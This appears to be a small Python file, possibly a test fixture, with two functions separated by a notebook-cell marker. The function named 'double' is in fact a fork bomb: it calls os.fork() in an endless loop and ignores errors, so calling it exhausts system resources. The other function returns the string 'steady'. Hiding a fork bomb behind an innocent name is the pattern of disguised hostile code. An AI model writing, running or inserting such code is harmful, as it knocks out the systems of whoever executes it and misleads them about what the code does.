import os


def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %%
def steady():
    return "steady"
